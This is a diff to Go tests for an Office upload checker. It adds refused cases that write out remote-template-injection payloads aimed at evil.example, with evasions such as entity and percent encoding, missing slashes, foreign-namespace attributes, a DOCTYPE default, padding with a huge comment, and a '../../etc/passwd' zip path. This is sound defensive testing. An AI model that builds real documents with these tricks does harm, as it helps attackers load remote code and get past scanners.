@@ -52,7 +52,13 @@ func TestWhatAFileIs(t *testing.T) {
 <Relationships xmlns="urn:x"><Relationship Id="1" Type="urn:x/hyperlink" Target="https://good.example/" TargetMode="External"/>
 <Relationship Id="2" Type="urn:x/attachedTemplate" Target="file:///C:\Users\meena\Normal.dotm" TargetMode="External"/>
 <Relationship Id="3" Type="urn:x/attachedTemplate" Target="C:/Letters/a.dotx" TargetMode="External"/>
-<Relationship Id="4" Type="urn:x/oleObject" Target="embeddings/sheet1.xlsx"/></Relationships>`)}), office[0].media, "file"},
+<Relationship Id="4" Type="urn:x/oleObject" Target="embeddings/sheet1.xlsx"/>
+<Relationship Id="5" Type="urn:x/attachedTemplate" Target="file:///Users/meena/Library/Group%20Containers/Normal.dotm" TargetMode="External"/>
+<Relationship Id="6" Type="urn:x/attachedTemplate" Target="file://localhost/Users/meena/Normal.dotm" TargetMode="External"/>
+<Relationship Id="7" Type="urn:x/attachedTemplate" Target="Macintosh%20HD:Users:meena:Normal.dotm" TargetMode="External"/></Relationships>`)}), office[0].media, "file"},
+		{"sheet with a link in each row", "", "a.xlsx", zipOf(t, part{"[Content_Types].xml", []byte(`<Types/>`)}, part{"xl/worksheets/_rels/sheet1.xml.rels", []byte(`<Relationships>` +
+			strings.Repeat(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:donor@example.org" TargetMode="External"/>`, 20_000) +
+			`</Relationships>`)}), office[1].media, "file"},
 		{"odt", "", "a.odt", odt, "application/vnd.oasis.opendocument.text", "file"},
 		{"doc", "application/msword", "a.doc", ole("WordDocument", "1Table"), "application/msword", "file"},
 		{"xls", "", "a.xls", ole("Workbook"), "application/vnd.ms-excel", "file"},
@@ -124,7 +130,11 @@ func TestWhatIsRefused(t *testing.T) {
 		{"template as entities", "", "", rels(`<Relationship Type="urn:x/attachedTemplat&#101;" Target="&#104;ttps://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
 		{"template from a share", "", "", rels(`<Relationship Type="urn:x/oleObject" Target="file://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
 		{"template from a share in other words", "", "", rels(`<Relationship Type="urn:x/frame" Target="file:///\\\\evil.example\\x" TargetMode="External"/>`), "it would load something from the internet"},
-		{"template behind much else", "", "", rels("<!--" + strings.Repeat(" x", 1<<19) + "-->" + `<Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>`), "it is put together in a way that tricks programs"},
+		{"template without slashes", "", "", rels(`<Relationship Type="urn:x/attachedTemplate" Target="https:evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
+		{"template in percents", "", "", rels(`<Relationship Type="urn:x/frame" Target="file:///%5C%5Cevil.example%5Cx" TargetMode="External"/>`), "it would load something from the internet"},
+		{"template behind words of another vocabulary", "", "", rels(`<Relationship xmlns:o="urn:o" Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External" o:Type="a" o:Target="b" o:TargetMode="Internal"/>`), "it would load something from the internet"},
+		{"template by a declaration", "", "", docx(t, part{"word/_rels/settings.xml.rels", []byte(`<!DOCTYPE Relationships [<!ATTLIST Relationship TargetMode CDATA "External">]><Relationships><Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm"/></Relationships>`)}), "it is put together in a way that tricks programs"},
+		{"template behind much else", "", "", rels("<!--" + strings.Repeat(" x", 8<<20) + "-->" + `<Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>`), "it is put together in a way that tricks programs"},
 		{"list in UTF-16", "", "", docx(t, part{"word/_rels/settings.xml.rels", []byte("\xff\xfe" + wide(`<Relationships><Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`))}), "it is cut short or broken"},
 		{"way out", "", "", docx(t, part{"../../etc/passwd", nil}), "it is put together in a way that tricks programs"},
 		{"same name twice", "", "", docx(t, part{"word/document.xml", nil}), "it is put together in a way that tricks programs"},
